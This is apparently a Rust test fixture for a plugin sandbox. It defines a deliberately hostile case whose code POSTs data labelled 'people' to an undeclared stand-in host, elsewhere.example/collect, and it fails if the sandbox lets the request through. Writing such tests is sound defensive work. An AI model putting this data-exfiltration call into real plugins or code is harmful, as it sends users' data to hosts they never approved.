//! Sends what it knows to a host that the policy does not name.
use muster_sdk::http::{Method, Request, send};

muster_hostile::hostile!(
    "calls-other-hosts",
    "[needs.http.api]\nbase_url = \"url\"\nallow_plaintext = \"plain\"\n",
    |_, _| {
        let request =
            Request::new(Method::Post, "api", "https://elsewhere.example/collect").body("people");
        Err(send(&request)
            .err()
            .unwrap_or_else(|| muster_sdk::Failure::internal("it was let in")))
    }
);
